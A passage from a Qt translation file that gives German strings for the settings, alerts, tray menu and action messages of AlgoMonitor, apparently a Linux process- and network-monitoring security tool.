<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE TS>
<TS version="2.1" language="de_DE" sourcelanguage="en">
<context>
    <name>RuleTester</name>
    <message>
        <source>The test gave no answer.</source>
        <translation>Der Test gab keine Antwort.</translation>
    </message>
</context>
<context>
    <name>SettingsSchema</name>
    <message>
        <source>Mode</source>
        <translation>Modus</translation>
    </message>
    <message>
        <source>observe: only record. ask: suspend at once and ask. enforce: act at once.</source>
        <translation>Beobachten: nur aufzeichnen. Fragen: sofort anhalten und fragen. Durchsetzen: sofort handeln.</translation>
    </message>
    <message>
        <source>Scope</source>
        <translation>Bereich</translation>
    </message>
    <message>
        <source>Only processes in this cgroup and below it are watched; / is the whole machine.</source>
        <translation>Nur Prozesse in dieser Kontrollgruppe und darunter werden beobachtet; / ist der ganze Rechner.</translation>
    </message>
    <message>
        <source>Time to answer</source>
        <translation>Zeit für die Antwort</translation>
    </message>
    <message>
        <source>How long a suspended program waits for an answer.</source>
        <translation>Wie lange ein angehaltenes Programm auf eine Antwort wartet.</translation>
    </message>
    <message>
        <source>Without an answer</source>
        <translation>Ohne Antwort</translation>
    </message>
    <message>
        <source>What happens when nobody answers in time; configured is the rule&apos;s own response.</source>
        <translation>Was geschieht, wenn niemand rechtzeitig antwortet; vorgegeben ist die Reaktion der Regel.</translation>
    </message>
    <message>
        <source>When nobody is there</source>
        <translation>Wenn niemand da ist</translation>
    </message>
    <message>
        <source>What happens when there is no unlocked desktop to ask on.</source>
        <translation>Was geschieht, wenn es keine entsperrte Arbeitsfläche gibt, auf der gefragt werden kann.</translation>
    </message>
    <message>
        <source>Log levels</source>
        <translation>Protokollstufen</translation>
    </message>
    <message>
        <source>Which levels get a log file.</source>
        <translation>Welche Stufen eine Protokolldatei bekommen.</translation>
    </message>
    <message>
        <source>Learning period</source>
        <translation>Lernzeit</translation>
    </message>
    <message>
        <source>Collect what is new in silence for the first days. Behaviour is never silenced.</source>
        <translation>In den ersten Tagen still sammeln, was neu ist. Verhalten wird nie verschwiegen.</translation>
    </message>
    <message>
        <source>days</source>
        <translation>Tage</translation>
    </message>
    <message>
        <source>Length of the learning period</source>
        <translation>Länge der Lernzeit</translation>
    </message>
    <message>
        <source>How long the learning period lasts after the first start.</source>
        <translation>Wie lange die Lernzeit nach dem ersten Start dauert.</translation>
    </message>
    <message>
        <source>Rules</source>
        <translation>Regeln</translation>
    </message>
    <message>
        <source>For each rule: enabled, response, level.</source>
        <translation>Für jede Regel: ob sie gilt, Reaktion, Stufe.</translation>
    </message>
    <message>
        <source>Trust</source>
        <translation>Vertrauen</translation>
    </message>
    <message>
        <source>Programs and peers that the named rules leave alone.</source>
        <translation>Programme und Gegenstellen, die die genannten Regeln in Ruhe lassen.</translation>
    </message>
    <message>
        <source>Polling interval</source>
        <translation>Abfrageabstand</translation>
    </message>
    <message>
        <source>How often /proc is read where the kernel does not tell of processes by itself.</source>
        <translation>Wie oft /proc gelesen wird, wo der Kernel nicht von selbst von Prozessen berichtet.</translation>
    </message>
    <message>
        <source>Children</source>
        <translation>Kindprozesse</translation>
    </message>
    <message>
        <source>More children than this are unusual.</source>
        <translation>Mehr Kindprozesse als so viele sind ungewöhnlich.</translation>
    </message>
    <message>
        <source>Sampling interval</source>
        <translation>Messabstand</translation>
    </message>
    <message>
        <source>How often the use of resources is measured.</source>
        <translation>Wie oft gemessen wird, was verbraucht wird.</translation>
    </message>
    <message>
        <source>samples</source>
        <translation>Messungen</translation>
    </message>
    <message>
        <source>Samples looked back on</source>
        <translation>Zurückblickende Messungen</translation>
    </message>
    <message>
        <source>Out of how many samples a trend is read.</source>
        <translation>Aus wie vielen Messungen ein Verlauf gelesen wird.</translation>
    </message>
    <message>
        <source>Samples above the limit</source>
        <translation>Messungen über der Grenze</translation>
    </message>
    <message>
        <source>So many samples above the limit are an anomaly, for every metric without its own count.</source>
        <translation>So viele Messungen über der Grenze sind eine Auffälligkeit, für jede Größe ohne eigene Zahl.</translation>
    </message>
    <message>
        <source>Processor limit</source>
        <translation>Prozessorgrenze</translation>
    </message>
    <message>
        <source>Processor time of one program.</source>
        <translation>Prozessorzeit eines Programms.</translation>
    </message>
    <message>
        <source>Processor: samples above the limit</source>
        <translation>Prozessor: Messungen über der Grenze</translation>
    </message>
    <message>
        <source>So many samples above the limit are an anomaly.</source>
        <translation>So viele Messungen über der Grenze sind eine Auffälligkeit.</translation>
    </message>
    <message>
        <source>Memory limit</source>
        <translation>Speichergrenze</translation>
    </message>
    <message>
        <source>Memory of one program.</source>
        <translation>Speicher eines Programms.</translation>
    </message>
    <message>
        <source>Memory: samples above the limit</source>
        <translation>Speicher: Messungen über der Grenze</translation>
    </message>
    <message>
        <source>Disk operations limit</source>
        <translation>Grenze der Plattenzugriffe</translation>
    </message>
    <message>
        <source>Reads and writes of one program in a second.</source>
        <translation>Lese- und Schreibzugriffe eines Programms in einer Sekunde.</translation>
    </message>
    <message>
        <source>Threads</source>
        <translation>Threads</translation>
    </message>
    <message>
        <source>More threads than this in one program are unusual.</source>
        <translation>Mehr Threads als so viele in einem Programm sind ungewöhnlich.</translation>
    </message>
    <message>
        <source>Open files</source>
        <translation>Offene Dateien</translation>
    </message>
    <message>
        <source>More open descriptors than this in one program are unusual.</source>
        <translation>Mehr offene Deskriptoren als so viele in einem Programm sind ungewöhnlich.</translation>
    </message>
    <message>
        <source>Connections</source>
        <translation>Verbindungen</translation>
    </message>
    <message>
        <source>More connections than this of one program are unusual.</source>
        <translation>Mehr Verbindungen als so viele eines Programms sind ungewöhnlich.</translation>
    </message>
    <message>
        <source>Pressure limit</source>
        <translation>Druckgrenze</translation>
    </message>
    <message>
        <source>Share of time in which programs wait for processor, memory or disk.</source>
        <translation>Anteil der Zeit, in der Programme auf Prozessor, Speicher oder Platte warten.</translation>
    </message>
    <message>
        <source>Baselines</source>
        <translation>Gewohnheiten</translation>
    </message>
    <message>
        <source>Learn what is usual for each program.</source>
        <translation>Lernen, was für jedes Programm üblich ist.</translation>
    </message>
    <message>
        <source>Baseline period</source>
        <translation>Zeitraum der Gewohnheiten</translation>
    </message>
    <message>
        <source>Over how long a baseline is formed.</source>
        <translation>Über welche Zeit eine Gewohnheit gebildet wird.</translation>
    </message>
    <message>
        <source>Baseline margin</source>
        <translation>Spielraum der Gewohnheiten</translation>
    </message>
    <message>
        <source>How far above its baseline a program may go.</source>
        <translation>Wie weit ein Programm über seine Gewohnheit hinausgehen darf.</translation>
    </message>
    <message>
        <source>Memory dump on anomaly</source>
        <translation>Speicherabbild bei Auffälligkeit</translation>
    </message>
    <message>
        <source>Save the memory of a program with an anomaly.</source>
        <translation>Den Speicher eines auffälligen Programms sichern.</translation>
    </message>
    <message>
        <source>Dump directory</source>
        <translation>Ordner der Abbilder</translation>
    </message>
    <message>
        <source>Where dumps are kept.</source>
        <translation>Wo Abbilder aufbewahrt werden.</translation>
    </message>
    <message>
        <source>Largest dump</source>
        <translation>Größtes Abbild</translation>
    </message>
    <message>
        <source>Programs larger than this are not dumped.</source>
        <translation>Größere Programme werden nicht abgebildet.</translation>
    </message>
    <message>
        <source>Room for dumps</source>
        <translation>Platz für Abbilder</translation>
    </message>
    <message>
        <source>All dumps together; the oldest give way.</source>
        <translation>Alle Abbilder zusammen; die ältesten weichen.</translation>
    </message>
    <message>
        <source>Disk space left alone</source>
        <translation>Freizulassender Plattenplatz</translation>
    </message>
    <message>
        <source>No dump is written that would leave less free space.</source>
        <translation>Es wird kein Abbild geschrieben, das weniger freien Platz ließe.</translation>
    </message>
    <message>
        <source>Time between dumps</source>
        <translation>Zeit zwischen Abbildern</translation>
    </message>
    <message>
        <source>One program is dumped at most this often.</source>
        <translation>Ein Programm wird höchstens so oft abgebildet.</translation>
    </message>
    <message>
        <source>Dump command</source>
        <translation>Abbildbefehl</translation>
    </message>
    <message>
        <source>Program and arguments that write a dump; empty: the built-in way.</source>
        <translation>Programm und Argumente, die ein Abbild schreiben; leer: auf eingebaute Weise.</translation>
    </message>
    <message>
        <source>Terminate on anomaly</source>
        <translation>Beenden bei Auffälligkeit</translation>
    </message>
    <message>
        <source>End a program with an anomaly.</source>
        <translation>Ein auffälliges Programm beenden.</translation>
    </message>
    <message>
        <source>Time to end by itself</source>
        <translation>Zeit, von selbst zu enden</translation>
    </message>
    <message>
        <source>Between asking a program to end and killing it.</source>
        <translation>Zwischen der Bitte zu enden und dem Erzwingen.</translation>
    </message>
    <message>
        <source>Allowed listeners</source>
        <translation>Erlaubte Lauscher</translation>
    </message>
    <message>
        <source>Ports on which a new listener is not reported.</source>
        <translation>Ports, auf denen ein neuer Lauscher nicht gemeldet wird.</translation>
    </message>
    <message>
        <source>Feeds</source>
        <translation>Listen</translation>
    </message>
    <message>
        <source>Lists of bad addresses and domains.</source>
        <translation>Listen schlechter Adressen und Domains.</translation>
    </message>
    <message>
        <source>Length of a block</source>
        <translation>Länge einer Sperre</translation>
    </message>
    <message>
        <source>How long an address stays blocked.</source>
        <translation>Wie lange eine Adresse gesperrt bleibt.</translation>
    </message>
    <message>
        <source>Port scan: ports</source>
        <translation>Portscan: Ports</translation>
    </message>
    <message>
        <source>So many ports tried within the window are a scan.</source>
        <translation>So viele versuchte Ports innerhalb des Zeitfensters sind ein Scan.</translation>
    </message>
    <message>
        <source>Port scan: window</source>
        <translation>Portscan: Zeitfenster</translation>
    </message>
    <message>
        <source>Within which the tried ports are counted.</source>
        <translation>Innerhalb dessen die versuchten Ports gezählt werden.</translation>
    </message>
    <message>
        <source>Beacon</source>
        <translation>Funkfeuer</translation>
    </message>
    <message>
        <source>So many connections at regular intervals are a beacon.</source>
        <translation>So viele Verbindungen in regelmäßigem Abstand sind ein Funkfeuer.</translation>
    </message>
    <message>
        <source>Protected directories</source>
        <translation>Geschützte Ordner</translation>
    </message>
    <message>
        <source>Whose files are watched for changes; * and ? match within a name.</source>
        <translation>Deren Dateien auf Änderungen beobachtet werden; * und ? passen innerhalb eines Namens.</translation>
    </message>
    <message>
        <source>Left out</source>
        <translation>Ausgelassen</translation>
    </message>
    <message>
        <source>Paths below the protected directories that are not watched.</source>
        <translation>Pfade unterhalb der geschützten Ordner, die nicht beobachtet werden.</translation>
    </message>
    <message>
        <source>Verification interval</source>
        <translation>Prüfabstand</translation>
    </message>
    <message>
        <source>How often the protected files are compared with the baseline.</source>
        <translation>Wie oft die geschützten Dateien mit dem angenommenen Stand verglichen werden.</translation>
    </message>
    <message>
        <source>Reading speed</source>
        <translation>Lesegeschwindigkeit</translation>
    </message>
    <message>
        <source>How much is read from disk in a second while verifying.</source>
        <translation>Wie viel beim Prüfen in einer Sekunde von der Platte gelesen wird.</translation>
    </message>
    <message>
        <source>Failed logins</source>
        <translation>Fehlgeschlagene Anmeldungen</translation>
    </message>
    <message>
        <source>So many failed logins within the window are an attack.</source>
        <translation>So viele fehlgeschlagene Anmeldungen innerhalb des Zeitfensters sind ein Angriff.</translation>
    </message>
    <message>
        <source>Failed logins: window</source>
        <translation>Fehlgeschlagene Anmeldungen: Zeitfenster</translation>
    </message>
    <message>
        <source>Within which failed logins are counted.</source>
        <translation>Innerhalb dessen fehlgeschlagene Anmeldungen gezählt werden.</translation>
    </message>
    <message>
        <source>Automatic kills</source>
        <translation>Selbsttätiges Beenden</translation>
    </message>
    <message>
        <source>Per user; beyond it suspects are suspended, never let go.</source>
        <translation>Je Benutzer; darüber hinaus werden Verdächtige angehalten, nie laufen gelassen.</translation>
    </message>
    <message>
        <source>Log file size</source>
        <translation>Größe der Protokolldateien</translation>
    </message>
    <message>
        <source>A larger log file is put aside and a new one begun.</source>
        <translation>Eine größere Protokolldatei wird beiseitegelegt und eine neue begonnen.</translation>
    </message>
    <message>
        <source>Log files are kept</source>
        <translation>Protokolle werden aufbewahrt</translation>
    </message>
    <message>
        <source>Older log files are deleted.</source>
        <translation>Ältere Protokolldateien werden gelöscht.</translation>
    </message>
    <message>
        <source>Alerts are kept</source>
        <translation>Alarme werden aufbewahrt</translation>
    </message>
    <message>
        <source>Older alerts are removed from the history.</source>
        <translation>Ältere Alarme werden aus dem Verlauf entfernt.</translation>
    </message>
    <message>
        <source>Largest history</source>
        <translation>Größter Verlauf</translation>
    </message>
    <message>
        <source>Beyond this number the oldest alerts are removed.</source>
        <translation>Über diese Zahl hinaus werden die ältesten Alarme entfernt.</translation>
    </message>
    <message>
        <source>Syslog</source>
        <translation>Syslog</translation>
    </message>
    <message>
        <source>Send alerts to a syslog server (RFC 5424).</source>
        <translation>Alarme an einen Syslog-Server senden (RFC 5424).</translation>
    </message>
    <message>
        <source>Syslog server</source>
        <translation>Syslog-Server</translation>
    </message>
    <message>
        <source>tcp://host:port</source>
        <translation>tcp://rechner:port</translation>
    </message>
    <message>
        <source>Mail</source>
        <translation>E-Mail</translation>
    </message>
    <message>
        <source>Send alerts by mail.</source>
        <translation>Alarme per E-Mail senden.</translation>
    </message>
    <message>
        <source>Recipients</source>
        <translation>Empfänger</translation>
    </message>
    <message>
        <source>Who gets the mail.</source>
        <translation>Wer die E-Mail bekommt.</translation>
    </message>
    <message>
        <source>Sender</source>
        <translation>Absender</translation>
    </message>
    <message>
        <source>Address the mail comes from.</source>
        <translation>Adresse, von der die E-Mail kommt.</translation>
    </message>
    <message>
        <source>Subject</source>
        <translation>Betreff</translation>
    </message>
    <message>
        <source>Subject of the mail.</source>
        <translation>Betreff der E-Mail.</translation>
    </message>
    <message>
        <source>Mail server</source>
        <translation>Mailserver</translation>
    </message>
    <message>
        <source>smtp://host:port or smtps://host:port</source>
        <translation>smtp://rechner:port oder smtps://rechner:port</translation>
    </message>
    <message>
        <source>STARTTLS</source>
        <translation>STARTTLS</translation>
    </message>
    <message>
        <source>Encrypt the connection to the mail server.</source>
        <translation>Die Verbindung zum Mailserver verschlüsseln.</translation>
    </message>
    <message>
        <source>Mail user</source>
        <translation>Mailbenutzer</translation>
    </message>
    <message>
        <source>Name to log in to the mail server with.</source>
        <translation>Name zur Anmeldung am Mailserver.</translation>
    </message>
    <message>
        <source>Mail password file</source>
        <translation>Mailpasswortdatei</translation>
    </message>
    <message>
        <source>Root-only file whose first line is the password.</source>
        <translation>Datei nur für root, deren erste Zeile das Passwort ist.</translation>
    </message>
</context>
<context>
    <name>app::BubbleText</name>
    <message>
        <source>%1 stopped</source>
        <translation>%1 gestoppt</translation>
    </message>
    <message>
        <source>%1: %2 times</source>
        <translation>%1: %2-mal</translation>
    </message>
    <message>
        <source>%1 more alerts</source>
        <translation>%1 weitere Alarme</translation>
    </message>
    <message>
        <source>Suspended, waiting for you.</source>
        <translation>Angehalten, wartet auf Sie.</translation>
    </message>
    <message>
        <source>Suspended; now it is %1.</source>
        <translation>Angehalten; jetzt wird es %1.</translation>
    </message>
    <message>
        <source>Suspended, waiting for you: in %1 s it is %2.</source>
        <translation>Angehalten, wartet auf Sie: in %1 s wird es %2.</translation>
    </message>
    <message>
        <source>Click here to answer in AlgoMonitor.</source>
        <translation>Klicken Sie hier, um in AlgoMonitor zu antworten.</translation>
    </message>
    <message>
        <source>Open AlgoMonitor to answer, or run: algomonitorctl alerts kill %1</source>
        <translation>Öffnen Sie AlgoMonitor, um zu antworten, oder: algomonitorctl alerts kill %1</translation>
    </message>
    <message>
        <source>Click for details.</source>
        <translation>Klicken Sie für Einzelheiten.</translation>
    </message>
    <message>
        <source>Open AlgoMonitor for details.</source>
        <translation>Öffnen Sie AlgoMonitor für Einzelheiten.</translation>
    </message>
    <message>
        <source>The last one: %1</source>
        <translation>Der letzte: %1</translation>
    </message>
    <message>
        <source>Seen %1 times.</source>
        <translation>%1-mal gesehen.</translation>
    </message>
    <message>
        <source>Your answer was not carried out: %1</source>
        <translation>Ihre Antwort wurde nicht ausgeführt: %1</translation>
    </message>
    <message>
        <source>Kill</source>
        <translation>Beenden</translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation>Einmal erlauben</translation>
    </message>
    <message>
        <source>Always allow…</source>
        <translation>Immer erlauben…</translation>
    </message>
    <message>
        <source>Details</source>
        <translation>Einzelheiten</translation>
    </message>
    <message>
        <source>AlgoMonitor</source>
        <translation>AlgoMonitor</translation>
    </message>
    <message>
        <source>Save memory</source>
        <translation>Speicher sichern</translation>
    </message>
    <message>
        <source>Undo</source>
        <translation>Rückgängig</translation>
    </message>
    <message>
        <source>Not until tomorrow</source>
        <translation>Erst morgen wieder</translation>
    </message>
    <message>
        <source>%1 alerts about others&apos; programs</source>
        <translation>%1 Alarme zu Programmen anderer</translation>
    </message>
    <message>
        <source>Not one of your programs: the details need a password.</source>
        <translation>Keines Ihrer Programme: Die Einzelheiten brauchen ein Passwort.</translation>
    </message>
    <message>
        <source>While you were away: %1 alerts</source>
        <translation>Während Sie weg waren: %1 Alarme</translation>
    </message>
    <message>
        <source>Meanwhile: %1 alerts</source>
        <translation>Inzwischen: %1 Alarme</translation>
    </message>
</context>
<context>
    <name>app::ExportLink</name>
    <message>
        <source>Nothing to export: the alerts are gone.</source>
        <translation>Nichts zu exportieren: Die Alarme sind fort.</translation>
    </message>
    <message>
        <source>%1 alerts saved as %2.</source>
        <translation>%1 Alarme gesichert als %2.</translation>
    </message>
    <message>
        <source>The alert is saved as %1.</source>
        <translation>Der Alarm ist gesichert als %1.</translation>
    </message>
</context>
<context>
    <name>app::RuleTester</name>
    <message>
        <source>algomonitorctl, which tests rules, is not installed.</source>
        <translation>algomonitorctl, das Regeln prüft, ist nicht installiert.</translation>
    </message>
</context>
<context>
    <name>app::TrayMenu</name>
    <message>
        <source>AlgoMonitor menu</source>
        <translation>AlgoMonitor-Menü</translation>
    </message>
    <message>
        <source>Looking for the helper…</source>
        <translation>Der Helfer wird gesucht…</translation>
    </message>
    <message>
        <source>&amp;Open AlgoMonitor</source>
        <translation>AlgoMonitor ö&amp;ffnen</translation>
    </message>
    <message>
        <source>&amp;Quit</source>
        <translation>&amp;Beenden</translation>
    </message>
    <message>
        <source>&amp;Mode</source>
        <translation>&amp;Modus</translation>
    </message>
    <message>
        <source>&amp;Pause responses</source>
        <translation>Reaktionen &amp;aussetzen</translation>
    </message>
    <message>
        <source>15 minutes</source>
        <translation>15 Minuten</translation>
    </message>
    <message>
        <source>1 hour</source>
        <translation>1 Stunde</translation>
    </message>
    <message>
        <source>Until restart (a day at most)</source>
        <translation>Bis zum Neustart (höchstens einen Tag)</translation>
    </message>
    <message>
        <source>Respond again now</source>
        <translation>Jetzt wieder reagieren</translation>
    </message>
    <message>
        <source>&amp;First steps…</source>
        <translation>&amp;Erste Schritte…</translation>
    </message>
</context>
<context>
    <name>app::VerbRunner</name>
    <message>
        <source>Terminated with everything it started.</source>
        <translation>Beendet mit allem, was es gestartet hat.</translation>
    </message>
    <message>
        <source>Terminated.</source>
        <translation>Beendet.</translation>
    </message>
    <message>
        <source>Suspended.</source>
        <translation>Angehalten.</translation>
    </message>
    <message>
        <source>Resumed.</source>
        <translation>Fortgesetzt.</translation>
    </message>
    <message>
        <source>Killed.</source>
        <translation>Beendet.</translation>
    </message>
    <message>
        <source>Allowed once.</source>
        <translation>Einmal erlaubt.</translation>
    </message>
    <message>
        <source>Allowed from now on.</source>
        <translation>Von jetzt an erlaubt.</translation>
    </message>
    <message>
        <source>Marked as looked at.</source>
        <translation>Als angesehen vermerkt.</translation>
    </message>
    <message>
        <source>Taken back.</source>
        <translation>Zurückgenommen.</translation>
    </message>
    <message>
        <source>Mode: %1.</source>
        <translation>Modus: %1.</translation>
    </message>
    <message>
        <source>Responding again.</source>
        <translation>Es wird wieder reagiert.</translation>
    </message>
    <message>
        <source>Only observing for %1 minutes.</source>
        <translation>%1 Minuten lang wird nur beobachtet.</translation>
    </message>
    <message>
        <source>Trusted.</source>
        <translation>Vertraut.</translation>
    </message>
    <message>
        <source>Trusted no longer.</source>
        <translation>Nicht mehr vertraut.</translation>
    </message>
    <message>
        <source>Not allowed without the password. %1</source>
        <translation>Ohne das Passwort nicht erlaubt. %1</translation>
    </message>
    <message>
        <source>Not done: %1</source>
        <translation>Nicht ausgeführt: %1</translation>
    </message>
    <message>
        <source>Under way. %1</source>
        <translation>Läuft. %1</translation>
    </message>
    <message>
        <source>Not done (%1). %2</source>
        <translation>Nicht ausgeführt (%1). %2</translation>
    </message>
    <message>
        <source>The connection is cut.</source>
        <translation>Die Verbindung ist getrennt.</translation>
    </message>
    <message>
        <source>%1 is blocked.</source>
        <translation>%1 ist gesperrt.</translation>
    </message>
    <message>
        <source>%1 is no longer blocked.</source>
        <translation>%1 ist nicht mehr gesperrt.</translation>
    </message>
    <message>
        <source>Its memory is saved.</source>
        <translation>Sein Speicher ist gesichert.</translation>
    </message>
    <message>
        <source>The dump is cancelled.</source>
        <translation>Das Abbild ist abgebrochen.</translation>
    </message>
    <message>
        <source>Protected files are being compared.</source>
        <translation>Die geschützten Dateien werden verglichen.</translation>
    </message>
    <message>
        <source>Comparing was stopped.</source>
        <translation>Der Vergleich wurde abgebrochen.</translation>
    </message>
    <message>
        <source>Accepted.</source>
        <translation>Angenommen.</translation>
    </message>
    <message>
        <source>The rule is on.</source>
        <translation>Die Regel gilt.</translation>
    </message>
    <message>
        <source>The rule is off.</source>
        <translation>Die Regel gilt nicht.</translation>
    </message>
    <message>
        <source>The rule&apos;s response is another one now.</source>
        <translation>Die Regel reagiert jetzt anders.</translation>
    </message>
    <message>
        <source>The setting is saved and in force.</source>
        <translation>Die Einstellung ist gespeichert und gilt.</translation>
    </message>
    <message>
        <source>The rules were read again.</source>
        <translation>Die Regeln wurden neu gelesen.</translation>
    </message>
</context>
<context>
    <name>app::WelcomeLink</name>
    <message>
        <source>This is how AlgoMonitor reaches you.</source>
        <translation>So erreicht Sie AlgoMonitor.</translation>
    </message>
    <message>
        <source>A notification should be on the screen now. If there is none, “Do not disturb” may be on: questions break through it.</source>
        <translation>Jetzt sollte eine Benachrichtigung zu sehen sein. Wenn nicht, ist vielleicht „Nicht stören“ an: Fragen kommen trotzdem durch.</translation>
    </message>
    <message>
        <source>This desktop has no notification server: what happens is only seen in the window and at the shield.</source>
        <translation>Diese Arbeitsfläche hat keinen Benachrichtigungsdienst: Was geschieht, sieht man nur im Fenster und am Schild.</translation>
    </message>
    <message>
        <source>The file that starts AlgoMonitor at login could not be written.</source>
        <translation>Die Datei, die AlgoMonitor bei der Anmeldung startet, konnte nicht geschrieben werden.</translation>
    </message>
</context>
<context>
    <name>app::client::HealthFeed</name>
    <message>
        <source>There is no system bus, so the helper cannot be asked anything.</source>
        <translation>Es gibt keinen Systembus, der Helfer kann also nicht gefragt werden.</translation>
    </message>
    <message>
        <source>You may not look at this helper: this session is not active.</source>
        <translation>Sie dürfen diesen Helfer nicht sehen: diese Sitzung ist nicht aktiv.</translation>
    </message>
    <message>
        <source>The helper is running but does not answer (%1). If it stays so: systemctl restart algo-monitor</source>
        <translation>Der Helfer läuft, antwortet aber nicht (%1). Wenn es so bleibt: systemctl restart algo-monitor</translation>
    </message>
    <message>
        <source>The helper is still version %1, this window is %2. Restart the helper: systemctl restart algo-monitor</source>
        <translation>Der Helfer hat noch Version %1, dieses Fenster %2. Starten Sie den Helfer neu: systemctl restart algo-monitor</translation>
    </message>
    <message>
        <source>The helper is version %1, this window is still %2. Quit AlgoMonitor from its tray icon and start it again</source>
        <translation>Der Helfer hat Version %1, dieses Fenster noch %2. Beenden Sie AlgoMonitor über sein Symbol und starten Sie es neu</translation>
    </message>
    <message>
        <source>The helper is not running. Start it with: systemctl start algo-monitor</source>
        <translation>Der Helfer läuft nicht. Starten Sie ihn mit: systemctl start algo-monitor</translation>
    </message>
</context>
<context>
    <name>ui::AlertDetails</name>
    <message>
        <source>Details of the alert</source>
        <translation>Einzelheiten des Alarms</translation>
    </message>
    <message>
        <source>Why</source>
        <translation>Warum</translation>
    </message>
    <message>
        <source>Who started it</source>
        <translation>Wer es gestartet hat</translation>
    </message>
    <message>
        <source>Facts</source>
        <translation>Tatsachen</translation>
    </message>
    <message>
        <source>What was done</source>
        <translation>Was getan wurde</translation>
    </message>
    <message>
        <source>Command</source>
        <translation>Befehl</translation>
    </message>
    <message>
        <source>Executable</source>
        <translation>Programmdatei</translation>
    </message>
    <message>
        <source>Directory</source>
        <translation>Ordner</translation>
    </message>
    <message>
        <source>Package</source>
        <translation>Paket</translation>
    </message>
    <message>
        <source>SHA-256</source>
        <translation>SHA-256</translation>
    </message>
    <message>
        <source>User</source>
        <translation>Benutzer</translation>
    </message>
    <message>
        <source>Connection</source>
        <translation>Verbindung</translation>
    </message>
    <message>
        <source>Control group</source>
        <translation>Kontrollgruppe</translation>
    </message>
    <message>
        <source>Evidence</source>
        <translation>Beweise</translation>
    </message>
    <message>
        <source>This is not about one of your programs. Its command, files and connections are shown with an administrator&apos;s password.</source>
        <translation>Hier geht es um keines Ihrer Programme. Befehl, Dateien und Verbindungen werden mit einem Administratorpasswort gezeigt.</translation>
    </message>
    <message>
        <source>Show the details…</source>
        <translation>Einzelheiten zeigen…</translation>
    </message>
    <message>
        <source>Details are hidden</source>
        <translation>Einzelheiten sind verborgen</translation>
    </message>
</context>
<context>
    <name>ui::AlertExportButton</name>
    <message>
        <source>Export</source>
        <translation>Exportieren</translation>
    </message>
    <message>
        <source>Save alerts as a file</source>
        <translation>Alarme als Datei sichern</translation>
    </message>
    <message>
        <source>%1 alerts as JSON…</source>
        <translation>%1 Alarme als JSON…</translation>
    </message>
    <message>
        <source>JSON (*.json)</source>
        <translation>JSON (*.json)</translation>
    </message>
    <message>
        <source>%1 alerts as CSV…</source>
        <translation>%1 Alarme als CSV…</translation>
    </message>
    <message>
        <source>Table (*.csv)</source>
        <translation>Tabelle (*.csv)</translation>
    </message>
    <message>
        <source>This alert, to report it…</source>
        <translation>Diesen Alarm, um ihn zu melden…</translation>
    </message>
    <message>
        <source>Archive (*.tar)</source>
        <translation>Archiv (*.tar)</translation>
    </message>
    <message>
        <source>1 alert as JSON…</source>
        <translation>1 Alarm als JSON…</translation>
    </message>
    <message>
        <source>1 alert as CSV…</source>
        <translation>1 Alarm als CSV…</translation>
    </message>
</context>
<context>
    <name>ui::AlertHeader</name>
    <message>
        <source>%1 times</source>
        <translation>%1-mal</translation>
    </message>
    <message>
        <source>Kill</source>
        <translation>Beenden</translation>
    </message>
    <message>
        <source>Allow once</source>
        <translation>Einmal erlauben</translation>
    </message>
    <message>
        <source>Always allow…</source>
        <translation>Immer erlauben…</translation>
    </message>
    <message>
        <source>Resolve</source>
        <translation>Erledigt</translation>
    </message>
    <message>
        <source>Undo</source>
        <translation>Zurücknehmen</translation>
    </message>
    <message>
        <source>Suspended until you decide.</source>
        <translation>Angehalten, bis Sie entscheiden.</translation>
    </message>
    <message>
        <source>Save memory…</source>
        <translation>Speicher sichern…</translation>
    </message>
</context>
<context>
    <name>ui::AlertPage</name>
    <message>
        <source>Which alerts</source>
        <translation>Welche Alarme</translation>
    </message>
    <message>
        <source>All</source>
        <translation>Alle</translation>
    </message>
    <message>
        <source>To look at</source>
        <translation>Anzusehen</translation>
    </message>
    <message>
        <source>Search</source>
        <translation>Suchen</translation>
    </message>
    <message>
        <source>Search alerts</source>
        <translation>Alarme suchen</translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation>Alarme</translation>
    </message>
    <message>
        <source>Kill</source>
        <translation>Beenden</translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation>Nichts gefunden</translation>
    </message>
    <message>
        <source>No alert matches. Search looks in the sentence, the program, its command, package, user and peer.</source>
        <translation>Kein Alarm passt. Gesucht wird im Satz, im Programm, seinem Befehl, Paket, Benutzer und der Gegenstelle.</translation>
    </message>
    <message>
        <source>You may not see the alerts</source>
        <translation>Sie dürfen die Alarme nicht sehen</translation>
    </message>
    <message>
        <source>No alerts to show</source>
        <translation>Keine Alarme zu zeigen</translation>
    </message>
    <message>
        <source>Reading the alerts…</source>
        <translation>Die Alarme werden gelesen…</translation>
    </message>
    <message>
        <source>No alerts</source>
        <translation>Keine Alarme</translation>
    </message>
    <message>
        <source>Nothing dangerous has been seen. What is found will stand here, with what was done about it.</source>
        <translation>Es wurde nichts Gefährliches gesehen. Was gefunden wird, steht hier, mit dem, was dagegen getan wurde.</translation>
    </message>
    <message>
        <source>Kill %1?</source>
        <translation>%1 beenden?</translation>
    </message>
    <message>
        <source>The evidence is saved, then the process and everything below it is killed.</source>
        <translation>Die Beweise werden gesichert, dann wird der Prozess mit allem darunter beendet.</translation>
    </message>
    <message>
        <source>What these programs have not saved is lost. This cannot be undone.</source>
        <translation>Was diese Programme nicht gespeichert haben, geht verloren. Das lässt sich nicht rückgängig machen.</translation>
    </message>
</context>
<context>
    <name>ui::AlertTableModel</name>
    <message>
        <source>Alert</source>
        <translation>Alarm</translation>
    </message>
    <message>
        <source>Level</source>
        <translation>Stufe</translation>
    </message>
    <message>
        <source>Process</source>
        <translation>Prozess</translation>
    </message>
    <message>
        <source>Raised</source>
        <translation>Gemeldet</translation>
    </message>
    <message>
        <source>State</source>
        <translation>Zustand</translation>
    </message>
</context>
<context>
    <name>ui::AlertText</name>
    <message>
        <source>Told you</source>
        <translation>Ihnen gemeldet</translation>
    </message>
    <message>
        <source>Suspended the processes</source>
        <translation>Die Prozesse angehalten</translation>
    </message>
    <message>
        <source>Let the processes run again</source>
        <translation>Die Prozesse fortgesetzt</translation>
    </message>
    <message>
        <source>Killed the process</source>
        <translation>Den Prozess beendet</translation>
    </message>
    <message>
        <source>Killed the process and everything below it</source>
        <translation>Den Prozess mit allem darunter beendet</translation>
    </message>
    <message>
        <source>Allowed once</source>
        <translation>Einmal erlaubt</translation>
    </message>
    <message>
        <source>Always allowed from now on</source>
        <translation>Von jetzt an immer erlaubt</translation>
    </message>
    <message>
        <source>Marked as looked at</source>
        <translation>Als angesehen vermerkt</translation>
    </message>
    <message>
